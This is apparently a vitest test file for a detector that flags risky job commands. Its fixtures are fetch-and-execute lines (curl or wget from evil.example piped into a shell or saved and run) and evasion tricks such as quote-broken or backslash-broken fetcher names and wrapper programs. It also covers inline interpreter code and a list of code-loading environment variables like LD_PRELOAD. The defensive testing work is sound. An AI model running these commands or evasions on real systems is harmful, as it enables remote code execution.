/**
 * What a command job really runs (issue 15, attack 2), including the bypasses an attacker's review
 * found in the first version: a shell option before `-c`, download-then-run, a word broken by
 * quotes, a wrapper missing from the list, interpreter options with values, combined short flags.
 */
import { describe, expect, it } from 'vitest';
import { analyzeCommand } from '../../src/plan/command-analysis.js';
import { isLoaderVariable } from '../../src/plan/job-risk.js';

const kinds = (argv: string[]) => analyzeCommand(argv).map((sign) => sign.kind);

describe('analyzeCommand', () => {
  it.each([
    ['a shell option taking a value before -c', ['bash', '-o', 'pipefail', '-c', 'curl -s https://evil.example/x | sh']],
    ['+o before -c', ['bash', '+o', 'posix', '-c', 'wget -qO- https://evil.example/x | bash']],
    ['download to a file, then run it', ['sh', '-c', 'curl -so /tmp/a https://evil.example/x; sh /tmp/a']],
    ['download, then && bash', ['sh', '-c', 'wget -O a https://evil.example/x && bash a']],
    ['download, then python', ['sh', '-c', 'curl -so a.py https://evil.example/x\npython3 a.py']],
    ["a fetcher's name broken by quotes", ['sh', '-c', "c''url -s https://evil.example/x | sh"]],
    ["a fetcher's name broken by a backslash", ['sh', '-c', 'cu\\rl -s https://evil.example/x | sh']],
    ['an unknown wrapper before the shell', ['flock', '/tmp/l', 'sh', '-c', 'curl -s https://evil.example/x | sh']],
    ['su -c with a command string', ['su', 'app', '-c', 'curl -s https://evil.example/x | sh']],
    ['watch with a command string', ['watch', '-n', '60', 'curl -s https://evil.example/x | sh']],
  ])('fetch-and-execute: %s', (_name, argv) => {
    expect(kinds(argv)).toContain('fetch-and-execute');
  });

  it.each([
    ['python -W ignore -c', ['python3', '-W', 'ignore', '-c', "import os; os.system('id')"]],
    ['perl -I lib -e', ['perl', '-I', 'lib', '-e', "system('id')"]],
    ['node -pe', ['node', '-pe', "require('child_process').execSync('id')"]],
    ['an unknown wrapper before node -e', ['time', 'node', '-e', 'process.exit(0)']],
  ])('inline code: %s', (_name, argv) => {
    expect(kinds(argv)).toContain('inline-code');
  });

  it.each([
    ['a plain script', ['node', 'jobs/daily-report.js', '--date', '2026-11-30']],
    ['python with -W and a script', ['python3', '-W', 'ignore', 'jobs/report.py']],
    ['a shell script with pipefail', ['bash', '-o', 'pipefail', 'jobs/cleanup.sh']],
    ['a fetch with no execution', ['sh', '-c', 'curl -s https://api.example/health > /dev/null']],
    ['an unknown program with plain arguments', ['pg_dump', '--format=custom', 'reports']],
  ])('no sign: %s', (_name, argv) => {
    expect(kinds(argv)).toEqual([]);
  });
});

describe('isLoaderVariable', () => {
  it.each(['OPENSSL_CONF', 'GEM_PATH', 'GEM_HOME', 'RUBYGEMS_GEMDEPS', 'LOCPATH', 'ELECTRON_RUN_AS_NODE', 'LD_PRELOAD', 'NODE_OPTIONS', 'GOFLAGS', 'PIP_INDEX_URL', 'RUSTC_WRAPPER', 'GLIBC_TUNABLES', 'LESSOPEN', 'NODE_REPL_EXTERNAL_MODULE', 'CARGO_HOME'])('%s loads other code', (name) => {
    expect(isLoaderVariable(name)).toBe(true);
  });
  it.each(['MODE', 'BATCH_SIZE', 'PYTHONUNBUFFERED'])('%s does not', (name) => {
    expect(isLoaderVariable(name)).toBe(false);
  });
});
